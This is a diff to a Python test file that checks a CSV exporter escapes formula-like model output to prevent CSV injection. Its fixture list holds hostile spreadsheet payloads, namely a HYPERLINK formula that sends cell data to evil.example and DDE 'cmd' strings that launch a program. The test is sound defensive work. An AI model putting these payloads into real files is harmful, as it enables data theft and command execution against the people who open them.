@@ -41,7 +41,11 @@ def test_round_trip_with_plain_read_csv(tmp_path: Path, engine: str) -> None:
     csv_mod.write_csv(rep, out, engine=engine)
     df = pd.read_csv(out)
     assert len(df) == len(TRICKY) + 1
-    assert df["output.content"].tolist()[:-1] == TRICKY
+    # Plain pandas sees what a spreadsheet sees: the formula-like answer as text, behind a '.
+    assert df["output.content"].tolist()[:-1] == [
+        "'" + t if t.startswith("=") else t for t in TRICKY
+    ]
+    assert csv_mod.read_csv(out)["output.content"].tolist()[:-1] == TRICKY
     assert pd.isna(df["output.content"].iloc[-1])  # no output: an empty cell, read as missing
     assert df["check.contains.detail"].iloc[1] == 'detail, "1"\nmore'
     assert df["check.length.score"].tolist() == [0.75] * len(df)
@@ -127,3 +131,46 @@ def test_diff_csv_one_row_per_pair(tmp_path: Path) -> None:
     assert df.loc["gone", "transition"] == "removed" and df["cand.verdict"].isna()["gone"]
     assert df.loc["new", "transition"] == "added" and df["base.latency_s"].isna()["new"]
     assert df.loc["a", "score_delta"] == pytest.approx(-1.0)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1, "click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'already quoted",
+    "'=looks quoted",
+    "- a markdown bullet",
+    "fine = not at the start",
+]
+
+
+@pytest.mark.parametrize("engine", ["auto", "pandas"])
+def test_formula_like_cells_are_text_to_a_spreadsheet_and_exact_for_read_csv(
+    tmp_path: Path, engine: str
+) -> None:
+    """Model output must not run as a spreadsheet formula (CSV injection); nothing is lost."""
+    recs = [
+        record(f"c{i}", False, content=text, checks=[check("contains", False, detail=text)])
+        for i, text in enumerate(FORMULAS)
+    ]
+    run = write_run(tmp_path / "run", recs)
+    out = tmp_path / "r.csv"
+    csv_mod.write_csv(build_report(run), out, engine=engine)
+    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
+    for column in ("output.content", "check.contains.detail"):
+        cells = raw[column].tolist()
+        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+        assert cells[-1] == "fine = not at the start"  # only a risky first character is touched
+    exact = csv_mod.read_csv(out)
+    assert exact["output.content"].tolist() == FORMULAS
+    assert exact["check.contains.detail"].tolist() == FORMULAS
+    assert exact["usage.prompt_tokens"].tolist() == [100] * len(FORMULAS)  # numbers untouched
+
+    diff_out = tmp_path / "d.csv"
+    csv_mod.write_csv(build_diff(run, run), diff_out, engine=engine)
+    raw_diff = pd.read_csv(diff_out, dtype=str, keep_default_na=False)
+    assert not raw_diff["cand.output.content"].str.startswith(("=", "+", "-", "@")).any()
+    assert csv_mod.read_csv(diff_out)["cand.output.content"].tolist() == FORMULAS
